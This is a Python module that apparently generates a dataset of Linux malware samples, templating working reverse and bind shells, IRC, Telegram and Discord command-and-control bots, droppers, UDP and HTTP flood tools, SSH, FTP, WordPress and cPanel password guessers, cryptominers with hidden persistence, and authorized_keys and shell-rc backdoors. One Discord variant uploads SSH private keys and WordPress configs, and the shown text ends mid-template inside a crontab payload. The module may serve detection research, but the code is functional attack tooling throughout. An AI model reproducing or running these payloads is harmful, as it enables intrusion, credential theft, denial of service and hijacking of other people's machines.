"""Bots and backdoors of the train6 set, in Perl, Python, shell, Node, Ruby
and PHP-CLI. Written blind (README.md)."""

from t6_common import T, rw, hx, ip, dom, port, b64, deflate, script, F, scriptpath  # noqa: F401


def S(r, lang, code, cont="script", rel=None):
    return [script(r, lang, code, cont, rel)]


def rev_perl(r, v):
    h, p = ip(r), port(r)
    if v == 0:
        c = T("use strict;\nuse IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => '@H@', PeerPort => @P@, Proto => 'tcp') or exit;\nopen(STDIN, '<&', $s); open(STDOUT, '>&', $s); open(STDERR, '>&', $s);\nexec({'/bin/sh'} '[kworker/0:1]', '-i');\n", H=h, P=p)
    elif v == 1:
        c = T("use Socket;\nmy ($a, $b) = ('@H@', @P@);\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nif (connect(S, sockaddr_in($b, inet_aton($a)))) {\n  while (my $l = <S>) { my $o = `$l`; send(S, $o, 0); }\n}\n", H=h, P=p)
    elif v == 2:
        c = T("use IO::Socket::IP;\nuse IO::Select;\n$0 = 'httpd';\nwhile (1) {\n  my $c = IO::Socket::IP->new(PeerHost => '@H@', PeerPort => '@P@') or do { sleep 60; next };\n  print $c \"ok \" . `uname -a`;\n  while (defined(my $cmd = <$c>)) { chomp $cmd; last if $cmd eq 'bye'; print $c qx($cmd 2>&1); }\n}\n", H=h, P=p)
    else:
        c = T("use IO::Socket::SSL;\nmy $c = IO::Socket::SSL->new(PeerAddr => '@H@:@P@', SSL_verify_mode => 0) or die;\nmy $pid = open(my $sh, '-|') // die;\nif (!$pid) { open STDIN, '<&', $c; open STDOUT, '>&', $c; exec '/bin/bash', '--noprofile', '-i'; }\n", H=h, P=p)
    return S(r, "perl", c)


def rev_python(r, v):
    h, p = ip(r), port(r)
    if v == 0:
        c = T("import socket, os, pty\ns = socket.socket()\ns.connect(('@H@', @P@))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/bash')\n", H=h, P=p)
    elif v == 1:
        c = T("import asyncio\n\nasync def main():\n    reader, writer = await asyncio.open_connection('@H@', @P@)\n    while True:\n        line = await reader.readline()\n        if not line:\n            break\n        proc = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)\n        out, _ = await proc.communicate()\n        writer.write(out)\n        await writer.drain()\n\nasyncio.run(main())\n", H=h, P=p)
    elif v == 2:
        c = T("import ssl, socket, subprocess, time\nctx = ssl.create_default_context()\nctx.check_hostname = False\nctx.verify_mode = ssl.CERT_NONE\nwhile True:\n    try:\n        with ctx.wrap_socket(socket.create_connection(('@H@', @P@))) as c:\n            while True:\n                cmd = c.recv(4096).decode().strip()\n                if not cmd:\n                    break\n                c.sendall(subprocess.run(cmd, shell=True, capture_output=True).stdout or b'.')\n    except OSError:\n        time.sleep(30)\n", H=h, P=p)
    else:
        c = T("import socketserver, subprocess\nimport socket as _s\nc = _s.create_connection(('@H@', @P@))\nsubprocess.call(['/bin/sh', '-i'], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())\n", H=h, P=p)
    return S(r, "python", c)


def rev_shell(r, v):
    h, p = ip(r), port(r)
    if v == 0:
        c = T("while :; do\n  bash -i >& /dev/tcp/@H@/@P@ 0>&1\n  sleep 45\ndone\n", H=h, P=p)
        return S(r, "sh", "#!/bin/bash\n" + c)
    if v == 1:
        c = T("f=/tmp/.X11-$$\nrm -f $f; mkfifo $f\ncat $f | /bin/sh -i 2>&1 | nc @H@ @P@ > $f\nrm -f $f\n", H=h, P=p)
    elif v == 2:
        c = T("command -v socat >/dev/null && socat exec:'sh -li',pty,stderr,setsid,sigint,sane tcp:@H@:@P@\nawk 'BEGIN { s = \"/inet/tcp/0/@H@/@P@\"; while (1) { printf \"> \" |& s; s |& getline c; if (c) { while ((c |& getline l) > 0) print l |& s; close(c) } } }' </dev/null\n", H=h, P=p)
    else:
        c = T("exec 5<>/dev/tcp/@H@/@P@\nwhile read -r line 0<&5; do\n  eval \"$line\" 2>&5 >&5\ndone\n", H=h, P=p)
        return S(r, "sh", "#!/bin/bash\n" + c)
    return S(r, "sh", c)


def rev_other(r, v):
    h, p = ip(r), port(r)
    if v == 0:
        c = T("const net = require('net');\nconst { spawn } = require('child_process');\n(function again() {\n  const c = new net.Socket();\n  c.connect(@P@, '@H@', () => {\n    const sh = spawn('/bin/sh', []);\n    c.pipe(sh.stdin);\n    sh.stdout.pipe(c);\n    sh.stderr.pipe(c);\n  });\n  c.on('error', () => setTimeout(again, 20000));\n})();\n", H=h, P=p)
        return S(r, "js", c)
    if v == 1:
        c = T("require 'socket'\nrequire 'open3'\ns = TCPSocket.new('@H@', @P@)\nwhile (cmd = s.gets)\n  out, st = Open3.capture2e(cmd)\n  s.print out\nend\n", H=h, P=p)
        return S(r, "ruby", c)
    if v == 2:
        c = T("<?php\n$s = fsockopen('@H@', @P@);\n$p = proc_open('sh', [0 => $s, 1 => $s, 2 => $s], $io);\nproc_close($p);\n", H=h, P=p)
        return S(r, "php", c)
    c = T("const tls = require('tls');\nconst cp = require('child_process');\nconst s = tls.connect({ host: '@H@', port: @P@, rejectUnauthorized: false }, () => s.write(require('os').hostname() + '\\n'));\ns.on('data', (d) => cp.exec(d.toString(), (e, o, er) => s.write(o + er)));\n", H=h, P=p)
    return S(r, "js", c)


def bind(r, v):
    p = r.choice((31337, 2323, 65001, 12345, 8899))
    if v == 0:
        c = T("import socket, subprocess, os\nsrv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\nsrv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nsrv.bind(('0.0.0.0', @P@))\nsrv.listen(5)\nwhile True:\n    c, a = srv.accept()\n    if os.fork() == 0:\n        os.dup2(c.fileno(), 0); os.dup2(c.fileno(), 1); os.dup2(c.fileno(), 2)\n        os.execl('/bin/sh', 'sh', '-i')\n", P=p)
        return S(r, "python", c)
    if v == 1:
        c = T("use IO::Socket;\n$SIG{CHLD} = 'IGNORE';\nmy $l = IO::Socket::INET->new(LocalPort => @P@, Listen => 10, ReuseAddr => 1) or die;\nwhile (my $c = $l->accept) {\n  next if fork;\n  print $c \"pass: \"; my $pw = <$c>;\n  exit unless $pw =~ /^@K@/;\n  open STDIN, '<&', $c; open STDOUT, '>&', $c; open STDERR, '>&', $c;\n  system('/bin/bash -i');\n  exit;\n}\n", P=p, K=rw(r, 6))
        return S(r, "perl", c)
    if v == 2:
        c = T("const net = require('net');\nconst { exec } = require('child_process');\nnet.createServer((sock) => {\n  sock.on('data', (b) => exec(b.toString(), { timeout: 60000 }, (e, out, err) => sock.write(out + err + '# ')));\n}).listen(@P@, '0.0.0.0');\n", P=p)
        return S(r, "js", c)
    c = T("while true; do\n  nc -l -p @P@ -e /bin/sh 2>/dev/null || busybox nc -lp @P@ -e /bin/sh\ndone\n", P=p)
    return S(r, "sh", c)


def irc(r, v):
    h = ip(r)
    ch = "#" + rw(r, 4)
    nick = rw(r, 3) + str(r.randint(100, 999))
    if v == 0:
        c = T("""use IO::Socket::INET;
my $srv = '@H@'; my $chan = '@C@'; my $nick = '@N@';
my $s = IO::Socket::INET->new(PeerAddr => $srv, PeerPort => 6667) or die;
print $s "NICK $nick\\r\\nUSER $nick 8 * :$nick\\r\\n";
while (my $line = <$s>) {
  if ($line =~ /^PING (.*)/) { print $s "PONG $1\\r\\n"; next; }
  if ($line =~ / 001 /) { print $s "JOIN $chan\\r\\n"; }
  if ($line =~ /PRIVMSG \\Q$chan\\E :!sh (.+)/) {
    foreach my $o (`$1`) { print $s "PRIVMSG $chan :$o"; sleep 1; }
  }
  if ($line =~ /PRIVMSG \\Q$chan\\E :!get (\\S+) (\\S+)/) { system("wget -q -O $2 $1"); }
}
""", H=h, C=ch, N=nick)
        return S(r, "perl", c)
    if v == 1:
        c = T("""import socket, subprocess, random
irc = socket.create_connection(('@H@', 6697 - 30))
nick = '@N@' + str(random.randint(10, 99))
irc.send(('NICK %s\\r\\nUSER %s 0 * :x\\r\\n' % (nick, nick)).encode())
buf = b''
while True:
    buf += irc.recv(2048)
    *lines, buf = buf.split(b'\\r\\n')
    for ln in lines:
        t = ln.decode(errors='ignore')
        if t.startswith('PING'):
            irc.send(('PONG' + t[4:] + '\\r\\n').encode())
        elif ' 376 ' in t or ' 422 ' in t:
            irc.send(b'JOIN @C@\\r\\n')
        elif 'PRIVMSG @C@ :.x ' in t:
            out = subprocess.getoutput(t.split(':.x ', 1)[1])
            for o in out.splitlines()[:20]:
                irc.send(('PRIVMSG @C@ :' + o + '\\r\\n').encode())
""", H=h, C=ch, N=nick)
        return S(r, "python", c)
    if v == 2:
        c = T("""const net = require('net');
const cp = require('child_process');
const c = net.connect(6667, '@H@');
c.setEncoding('utf8');
c.write('NICK @N@\\r\\nUSER @N@ 0 * :node\\r\\n');
c.on('data', (d) => d.split('\\r\\n').forEach((l) => {
  if (l.startsWith('PING')) return c.write('PONG' + l.slice(4) + '\\r\\n');
  if (/ 001 /.test(l)) c.write('JOIN @C@\\r\\n');
  const m = l.match(/PRIVMSG @C@ :@run (.+)/);
  if (m) cp.exec(m[1], (e, o) => (o || '').split('\\n').slice(0, 10).forEach((x) => c.write('PRIVMSG @C@ :' + x + '\\r\\n')));
}));
""", H=h, C=ch, N=nick)
        return S(r, "js", c)
    c = T("""<?php
set_time_limit(0);
$s = fsockopen('@H@', 6667);
fputs($s, "NICK @N@\\r\\nUSER @N@ 1 1 :php\\r\\n");
while (!feof($s)) {
    $l = fgets($s, 512);
    if (preg_match('/^PING (.+)/', $l, $m)) { fputs($s, "PONG {$m[1]}\\r\\n"); }
    if (strpos($l, ' 001 ')) { fputs($s, "JOIN @C@\\r\\n"); }
    if (preg_match('/:!e (.+)$/', trim($l), $m)) { foreach (explode("\\n", shell_exec($m[1])) as $o) { fputs($s, "PRIVMSG @C@ :$o\\r\\n"); } }
}
""", H=h, C=ch, N=nick)
    return S(r, "php", c)


def tg_c2(r, v):
    tok = "%d:%s" % (r.randint(10 ** 9, 7 * 10 ** 9), rw(r, 35, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"))
    chat = r.randint(10 ** 8, 10 ** 10)
    if v == 0:
        c = T("""import json, subprocess, time, urllib.request, urllib.parse
API = 'https://api.telegram.org/bot@T@/'
off = 0
while True:
    try:
        u = json.load(urllib.request.urlopen(API + 'getUpdates?timeout=50&offset=%d' % off, timeout=60))
        for upd in u.get('result', []):
            off = upd['update_id'] + 1
            m = upd.get('message', {})
            if m.get('chat', {}).get('id') != @C@:
                continue
            out = subprocess.run(m.get('text', ''), shell=True, capture_output=True, text=True, timeout=120)
            data = urllib.parse.urlencode({'chat_id': @C@, 'text': (out.stdout + out.stderr)[:4000] or 'ok'}).encode()
            urllib.request.urlopen(API + 'sendMessage', data)
    except Exception:
        time.sleep(10)
""", T=tok, C=chat)
        return S(r, "python", c)
    if v == 1:
        c = T("""const https = require('https');
const { execSync } = require('child_process');
const B = '/bot@T@';
let off = 0;
function get(path, cb) { https.get({ host: 'api.telegram.org', path: B + path }, (res) => { let b = ''; res.on('data', (d) => (b += d)); res.on('end', () => cb(JSON.parse(b))); }).on('error', () => {}); }
function tick() {
  get('/getUpdates?offset=' + off, (j) => {
    (j.result || []).forEach((u) => {
      off = u.update_id + 1;
      let out;
      try { out = execSync(u.message.text, { timeout: 30000 }).toString(); } catch (e) { out = String(e); }
      get('/sendMessage?chat_id=@C@&text=' + encodeURIComponent(out.slice(0, 3500)), () => {});
    });
  });
}
setInterval(tick, 5000);
""", T=tok, C=chat)
        return S(r, "js", c)
    if v == 2:
        c = T("""#!/bin/bash
T=@T@
U=https://api.telegram.org/bot$T
o=0
while true; do
  r=$(curl -s "$U/getUpdates?offset=$o&timeout=30")
  id=$(echo "$r" | grep -o '"update_id":[0-9]*' | tail -1 | cut -d: -f2)
  cmd=$(echo "$r" | grep -o '"text":"[^"]*"' | tail -1 | cut -d'"' -f4)
  if [ -n "$id" ]; then
    o=$((id + 1))
    res=$(sh -c "$cmd" 2>&1 | head -c 3500)
    curl -s -d chat_id=@C@ --data-urlencode "text=$res" "$U/sendMessage" >/dev/null
  fi
  sleep 3
done
""", T=tok, C=chat)
        return S(r, "sh", c)
    c = T("""use LWP::UserAgent;
use JSON::PP;
my $ua = LWP::UserAgent->new(timeout => 60);
my $api = "https://api.telegram.org/bot@T@";
my $off = 0;
while (1) {
  my $res = $ua->get("$api/getUpdates?offset=$off&timeout=40");
  next unless $res->is_success;
  for my $u (@{ decode_json($res->decoded_content)->{result} }) {
    $off = $u->{update_id} + 1;
    my $out = `$u->{message}{text} 2>&1`;
    $ua->post("$api/sendMessage", { chat_id => '@C@', text => substr($out, 0, 4000) });
  }
}
""", T=tok, C=chat)
    return S(r, "perl", c)


def discord_c2(r, v):
    hook = "https://discord.com/api/webhooks/%d/%s" % (r.randint(10 ** 17, 10 ** 18), rw(r, 60, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"))
    chan = r.randint(10 ** 17, 10 ** 18)
    btok = rw(r, 24) + "." + rw(r, 6) + "." + rw(r, 27)
    if v == 0:
        c = T("""import json, os, platform, socket, subprocess, time, urllib.request
HOOK = '@W@'
CH = 'https://discord.com/api/v10/channels/@C@/messages?limit=1'
HDR = {'Authorization': 'Bot @B@', 'User-Agent': 'DiscordBot (x, 1)', 'Content-Type': 'application/json'}
def post(t):
    urllib.request.urlopen(urllib.request.Request(HOOK, json.dumps({'content': t[:1900]}).encode(), HDR))
post('up %s %s %s' % (socket.gethostname(), platform.platform(), os.getuid()))
seen = None
while True:
    m = json.load(urllib.request.urlopen(urllib.request.Request(CH, headers=HDR)))
    if m and m[0]['id'] != seen and m[0]['content'].startswith('$ '):
        seen = m[0]['id']
        post(subprocess.getoutput(m[0]['content'][2:]))
    time.sleep(8)
""", W=hook, C=chan, B=btok)
        return S(r, "python", c)
    if v == 1:
        c = T("""const { execSync } = require('child_process');
const os = require('os');
const HOOK = '@W@';
const API = 'https://discord.com/api/v10/channels/@C@/messages?limit=5';
const H = { Authorization: 'Bot @B@', 'Content-Type': 'application/json' };
let last = '';
async function loop() {
  const msgs = await (await fetch(API, { headers: H })).json();
  for (const m of msgs.reverse()) {
    if (m.id <= last || !m.content.startsWith('!x ')) continue;
    last = m.id;
    let out;
    try { out = execSync(m.content.slice(3)).toString(); } catch (e) { out = e.message; }
    await fetch(HOOK, { method: 'POST', headers: H, body: JSON.stringify({ content: '```' + out.slice(0, 1800) + '```' }) });
  }
}
fetch(HOOK, { method: 'POST', headers: H, body: JSON.stringify({ content: os.hostname() + ' ' + os.userInfo().username }) });
setInterval(() => loop().catch(() => {}), 7000);
""", W=hook, C=chan, B=btok)
        return S(r, "js", c)
    c = T("""#!/bin/bash
W='@W@'
info="$(hostname) $(id -un) $(uname -r) $(curl -s ifconfig.example.net)"
curl -s -H 'Content-Type: application/json' -d "{\\"content\\":\\"$info\\"}" "$W"
for f in ~/.ssh/id_rsa ~/public_html/wp-config.php ~/.my.cnf; do
  [ -f "$f" ] && curl -s -F "file=@$f" "$W" >/dev/null
done
""", W=hook)
    return S(r, "sh", c)


def http_poll(r, v):
    u = "http://%s/%s" % (ip(r), r.choice(("api/task", "gate.php", "c/poll", "update/check")))
    if v == 0:
        c = T("""#!/bin/sh
id=$(cat /etc/machine-id 2>/dev/null || hostname | md5sum | cut -c1-16)
while true; do
  t=$(curl -fsS -A "Mozilla/5.0" "@U@?id=$id")
  if [ -n "$t" ]; then
    o=$(echo "$t" | base64 -d | sh 2>&1 | base64 -w0)
    curl -fsS -d "id=$id&r=$o" "@U@" >/dev/null
  fi
  sleep $(( 60 + RANDOM % 120 ))
done
""", U=u)
        return S(r, "sh", c)
    if v == 1:
        c = T("""import base64, random, subprocess, time, uuid, urllib.request
URL = '@U@'
BID = hex(uuid.getnode())
while True:
    try:
        job = urllib.request.urlopen(URL + '?b=' + BID, timeout=20).read()
        if job:
            kind, _, body = base64.b64decode(job).decode().partition(':')
            if kind == 'py':
                exec(body, {})
            elif kind == 'sh':
                res = subprocess.check_output(body, shell=True, stderr=subprocess.STDOUT)
                urllib.request.urlopen(urllib.request.Request(URL, data=base64.b64encode(res)))
    except Exception:
        pass
    time.sleep(random.uniform(40, 200))
""", U=u)
        return S(r, "python", c)
    if v == 2:
        c = T("""use LWP::Simple qw(get);
use MIME::Base64;
use Sys::Hostname;
my $u = '@U@';
for (;;) {
  my $t = get($u . '?h=' . hostname());
  if (defined $t && length $t) { my $code = decode_base64($t); eval $code; }
  sleep 90;
}
""", U=u)
        return S(r, "perl", c)
    c = T("""require 'net/http'
require 'base64'
loop do
  begin
    body = Net::HTTP.get(URI('@U@'))
    unless body.empty?
      out = `#{Base64.decode64(body)} 2>&1`
      Net::HTTP.post_form(URI('@U@'), 'o' => Base64.strict_encode64(out))
    end
  rescue StandardError
  end
  sleep 75
end
""", U=u)
    return S(r, "ruby", c)


def dropper(r, v):
    h = ip(r)
    n = r.choice(("kthreadd", "dbus-daemon", ".ICE-unix", "systemd-logind", "php-fpm", "sshd"))
    if v == 0:
        c = T("""#!/bin/sh
cd /tmp || cd /dev/shm || cd /var/tmp
for a in x86_64 i686 aarch64 armv7l mips; do
  (wget -q http://@H@/b/$a -O .@N@ || curl -s -o .@N@ http://@H@/b/$a) && chmod +x .@N@ && ./.@N@ $a && break
done
rm -f .@N@ "$0"
""", H=h, N=n)
        return S(r, "sh", c)
    if v == 1:
        c = T("""import os, platform, stat, subprocess, urllib.request
d = '/dev/shm' if os.access('/dev/shm', os.W_OK) else '/tmp'
p = os.path.join(d, '.@N@')
urllib.request.urlretrieve('http://@H@/dl/' + platform.machine(), p)
os.chmod(p, stat.S_IRWXU)
subprocess.Popen([p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
os.unlink(p)
os.unlink(__file__)
""", H=h, N=n)
        return S(r, "python", c)
    if v == 2:
        c = T("""use LWP::UserAgent;
my $ua = LWP::UserAgent->new(agent => 'curl/7.68');
my $f = '/var/tmp/.@N@';
my $r = $ua->get('http://@H@/x.bin', ':content_file' => $f);
chmod 0755, $f;
if (fork() == 0) { exec { $f } '@N@'; }
sleep 2; unlink $f; unlink $0;
""", H=h, N=n)
        return S(r, "perl", c)
    c = T("""const fs = require('fs');
const http = require('http');
const { spawn } = require('child_process');
const p = require('os').tmpdir() + '/.@N@';
http.get('http://@H@/n/' + process.arch, (res) => {
  const w = fs.createWriteStream(p, { mode: 0o755 });
  res.pipe(w);
  w.on('finish', () => { w.close(); spawn(p, [], { detached: true, stdio: 'ignore' }).unref(); setTimeout(() => fs.unlinkSync(p), 3000); });
});
""", H=h, N=n)
    return S(r, "js", c)


def udp_flood(r, v):
    if v == 0:
        c = """use Socket;
my ($ip, $port, $size, $time) = @ARGV;
my $iaddr = inet_aton($ip) or die;
socket(F, PF_INET, SOCK_DGRAM, 17);
my $end = time() + ($time || 60);
while (time() < $end) {
  my $p = $port ? $port : int(rand(65500)) + 1;
  send(F, pack('a' . ($size || 1024), 'X' x 64), 0, pack_sockaddr_in($p, $iaddr));
}
"""
        return S(r, "perl", c)
    if v == 1:
        c = """import random, socket, sys, threading, time
target, dur = sys.argv[1], int(sys.argv[2])
payload = random._urandom(1400)
def blast():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stop = time.time() + dur
    while time.time() < stop:
        s.sendto(payload, (target, random.randint(1, 65535)))
for _ in range(int(sys.argv[3]) if len(sys.argv) > 3 else 32):
    threading.Thread(target=blast, daemon=True).start()
time.sleep(dur)
"""
        return S(r, "python", c)
    if v == 2:
        c = """<?php
$host = $argv[1] ?? $_GET['host'];
$secs = (int) ($argv[2] ?? $_GET['time'] ?? 30);
$pkt = str_repeat(chr(255), 65000);
$stop = time() + $secs;
$n = 0;
while (time() < $stop) {
    $fp = fsockopen('udp://' . $host, rand(1, 65535), $e, $s, 5);
    if ($fp) { fwrite($fp, $pkt); fclose($fp); $n++; }
}
echo "sent $n packets\\n";
"""
        return S(r, "php", c)
    c = """const dgram = require('dgram');
const [, , host, secs = '60'] = process.argv;
const s = dgram.createSocket('udp4');
const buf = Buffer.alloc(1200, 0x41);
const end = Date.now() + Number(secs) * 1000;
(function fire() {
  for (let i = 0; i < 500; i++) s.send(buf, 1 + Math.floor(Math.random() * 65534), host);
  if (Date.now() < end) setImmediate(fire); else s.close();
})();
"""
    return S(r, "js", c)


def http_flood(r, v):
    if v == 0:
        c = """use IO::Socket::INET;
my ($host, $n) = (shift, shift || 300);
my @s;
for (1 .. $n) {
  my $c = IO::Socket::INET->new(PeerAddr => $host, PeerPort => 80, Timeout => 5) or next;
  print $c "GET /?" . int(rand(1e6)) . " HTTP/1.1\\r\\nHost: $host\\r\\nUser-Agent: Mozilla/5.0\\r\\n";
  push @s, $c;
}
while (1) {
  for my $c (@s) { print $c "X-a-" . int(rand(9999)) . ": b\\r\\n"; }
  sleep 12;
}
"""
        return S(r, "perl", c)
    if v == 1:
        c = """import random, string, sys, threading, urllib.request
url = sys.argv[1]
uas = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'Mozilla/5.0 (X11; Linux x86_64)', 'Mozilla/5.0 (iPhone; CPU iPhone OS 16_0)']
def hammer():
    while True:
        q = ''.join(random.choice(string.ascii_letters) for _ in range(8))
        try:
            urllib.request.urlopen(urllib.request.Request(url + '?' + q, headers={'User-Agent': random.choice(uas), 'Cache-Control': 'no-cache'}), timeout=4)
        except Exception:
            pass
for _ in range(400):
    threading.Thread(target=hammer, daemon=True).start()
threading.Event().wait()
"""
        return S(r, "python", c)
    if v == 2:
        c = """const http = require('http');
const url = new URL(process.argv[2]);
const agent = new http.Agent({ keepAlive: true, maxSockets: Infinity });
setInterval(() => {
  for (let i = 0; i < 200; i++) {
    const req = http.request({ host: url.hostname, path: url.pathname + '?' + Math.random().toString(36).slice(2), method: 'POST', agent, headers: { 'Content-Length': 100000 } });
    req.on('error', () => {});
    req.write('a');
  }
}, 1000);
"""
        return S(r, "js", c)
    c = """#!/bin/bash
t=$1; n=${2:-200}
for i in $(seq 1 $n); do
  ( while :; do curl -s -o /dev/null -H "Cache-Control: no-cache" -A "Mozilla/5.0 $RANDOM" "$t/?r=$RANDOM$RANDOM"; done ) &
done
sleep ${3:-300}; kill $(jobs -p)
"""
    return S(r, "sh", c)


def guesser(r, v):
    if v == 0:
        c = """import sys, threading, paramiko
hosts = [h.strip() for h in open(sys.argv[1]) if h.strip()]
combos = [l.strip().split(':', 1) for l in open(sys.argv[2]) if ':' in l]
lock = threading.Lock()
def work(h):
    for u, p in combos:
        c = paramiko.SSHClient()
        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            c.connect(h, 22, u, p, timeout=6, allow_agent=False, look_for_keys=False)
            with lock:
                open('.good', 'a').write('%s %s %s\\n' % (h, u, p))
            c.exec_command('uname -a; nproc')
            return
        except Exception:
            pass
        finally:
            c.close()
for h in hosts:
    threading.Thread(target=work, args=(h,)).start()
"""
        return S(r, "python", c)
    if v == 1:
        c = """use Net::FTP;
open(my $t, '<', $ARGV[0]) or die;
my @targets = <$t>;
my @pw = qw(123456 password admin 12345678 qwerty ftp ftp123 welcome);
for my $h (@targets) {
  chomp $h;
  for my $u ('admin', 'ftp', 'root', (split /\\./, $h)[0]) {
    for my $p (@pw, $u, $u . '123') {
      my $f = Net::FTP->new($h, Timeout => 8) or last;
      if ($f->login($u, $p)) { open(my $o, '>>', 'ftp.log'); print $o "$h $u $p\\n"; close $o; $f->quit; last; }
      $f->quit;
    }
  }
}
"""
        return S(r, "perl", c)
    if v == 2:
        c = """<?php
$sites = file($argv[1], FILE_IGNORE_NEW_LINES);
$words = file($argv[2], FILE_IGNORE_NEW_LINES);
foreach ($sites as $s) {
    foreach (['admin', 'administrator', parse_url($s, PHP_URL_HOST)] as $u) {
        foreach ($words as $w) {
            $x = '<?xml version="1.0"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>' . $u . '</value></param><param><value>' . $w . '</value></param></params></methodCall>';
            $ch = curl_init(rtrim($s, '/') . '/xmlrpc.php');
            curl_setopt_array($ch, [CURLOPT_POST => 1, CURLOPT_POSTFIELDS => $x, CURLOPT_RETURNTRANSFER => 1, CURLOPT_TIMEOUT => 10]);
            $res = curl_exec($ch);
            if (strpos($res, 'isAdmin') !== false) { file_put_contents('wp_ok.txt', "$s|$u|$w\\n", FILE_APPEND); break 2; }
        }
    }
}
"""
        return S(r, "php", c)
    c = """import base64, concurrent.futures, sys, requests, urllib3
urllib3.disable_warnings()
def try_login(line):
    host, user, pw = line.strip().split('|')
    r = requests.post('https://%s:2083/login/?login_only=1' % host, data={'user': user, 'pass': pw}, verify=False, timeout=10)
    if r.status_code == 200 and 'security_token' in r.text:
        with open('cp_hits.txt', 'a') as f:
            f.write(line)
with concurrent.futures.ThreadPoolExecutor(50) as ex:
    ex.map(try_login, open(sys.argv[1]))
"""
    return S(r, "python", c)


def miner(r, v):
    h = ip(r)
    w = rw(r, 40, "0123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
    if v == 0:
        c = T("""#!/bin/bash
pkill -f xmrig; pkill -f kinsing; pkill -f kdevtmpfsi; pkill -f '\\-\\-donate-level'
ps aux | grep -E 'cryptonight|stratum\\+tcp|minerd' | grep -v grep | awk '{print $2}' | xargs -r kill -9
D=$HOME/.config/.dbus
mkdir -p $D && cd $D
curl -fsSL http://@H@/m.tar.gz | tar xz
mv xmrig dbus-launch 2>/dev/null
cat > config.json <<EOF
{"pools":[{"url":"@H@:3333","user":"@W@","pass":"x"}],"cpu":{"max-threads-hint":75}}
EOF
(crontab -l 2>/dev/null | grep -v dbus-launch; echo "@reboot $D/dbus-launch -c $D/config.json >/dev/null 2>&1") | crontab -
nohup ./dbus-launch -c config.json >/dev/null 2>&1 &
""", H=h, W=w)
        return S(r, "sh", c)
    if v == 1:
        c = T("""#!/bin/sh
U=$HOME/.config/systemd/user
mkdir -p $U $HOME/.local/bin
wget -qO $HOME/.local/bin/pulse-helper http://@H@/xr && chmod +x $HOME/.local/bin/pulse-helper
cat > $U/pulse-helper.service <<EOF
[Unit]
Description=PulseAudio helper
[Service]
ExecStart=%h/.local/bin/pulse-helper -o @H@:443 -u @W@ -k --tls -B
Restart=always
[Install]
WantedBy=default.target
EOF
systemctl --user daemon-reload
systemctl --user enable --now pulse-helper.service
loginctl enable-linger $(id -un) 2>/dev/null
""", H=h, W=w)
        return S(r, "sh", c)
    if v == 2:
        c = T("""import os, subprocess, urllib.request, tarfile, io
for p in os.listdir('/proc'):
    if p.isdigit():
        try:
            cmd = open('/proc/%s/cmdline' % p, 'rb').read()
            if b'stratum' in cmd or b'xmr' in cmd or b'nanopool' in cmd:
                os.kill(int(p), 9)
        except Exception:
            pass
home = os.path.expanduser('~')
dst = os.path.join(home, '.cache', '.fontconfig')
os.makedirs(dst, exist_ok=True)
tarfile.open(fileobj=io.BytesIO(urllib.request.urlopen('http://@H@/pkg.tgz').read())).extractall(dst)
with open(os.path.join(home, '.bashrc'), 'a') as f:
    f.write('\\n(pgrep -f fc-cache-x >/dev/null || nohup %s/fc-cache-x -o @H@:5555 -u @W@ >/dev/null 2>&1 &)\\n' % dst)
subprocess.Popen([dst + '/fc-cache-x', '-o', '@H@:5555', '-u', '@W@'], start_new_session=True)
""", H=h, W=w)
        return S(r, "python", c)
    c = T("""#!/bin/bash
chattr -i /etc/ld.so.preload 2>/dev/null
for p in $(ls /proc | grep -E '^[0-9]+$'); do
  exe=$(readlink /proc/$p/exe 2>/dev/null)
  case "$exe" in *deleted*|/tmp/*|/dev/shm/*) kill -9 $p 2>/dev/null ;; esac
done
curl -s http://@H@/s -o /dev/shm/.s && chmod 700 /dev/shm/.s
echo "/dev/shm/.s -o @H@:80 -u @W@ --background" >> $HOME/.profile
echo "/dev/shm/.s -o @H@:80 -u @W@ --background" | at now + 1 minute 2>/dev/null
/dev/shm/.s -o @H@:80 -u @W@ --background
""", H=h, W=w)
    return S(r, "sh", c)


def persist(r, v):
    h = ip(r)
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + rw(r, 43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
    if v == 0:
        c = T("""#!/bin/sh
mkdir -p ~/.ssh && chmod 700 ~/.ssh
grep -q '@K@' ~/.ssh/authorized_keys 2>/dev/null || echo '@K@ root@localhost' >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
touch -r ~/.bash_logout ~/.ssh/authorized_keys
curl -s "http://@H@/r?u=$(id -un)&h=$(hostname)" >/dev/null
""", K=key, H=h)
        return S(r, "sh", c)
    if v == 1:
        c = T("""import os
home = os.path.expanduser('~')
line = "\\n[ -z \\"$PS1\\" ] || (curl -s http://@H@/p | sh >/dev/null 2>&1 &)\\n"
for rc in ('.bashrc', '.profile', '.bash_profile', '.zshrc'):
    p = os.path.join(home, rc)
    try:
        if line.strip() not in open(p).read():
            st = os.stat(p)
            with open(p, 'a') as f:
                f.write(line)
            os.utime(p, (st.st_atime, st.st_mtime))
    except FileNotFoundError:
        pass
""", H=h)
        return S(r, "python", c)
    if v == 2:
        enc = b64("curl -fsSL http://%s/i.sh | bash" % h)
        c = T("""# DO NOT EDIT THIS FILE - edit the master and reinstall.
MAILTO=""
*/15 * * * * /usr/local/bin/php /home/@U@/public_html/wp-cron.php >/dev/null 2>&1
*/7 * * * * echo @E@ | base64 -d | bash >/dev/null 2>&1
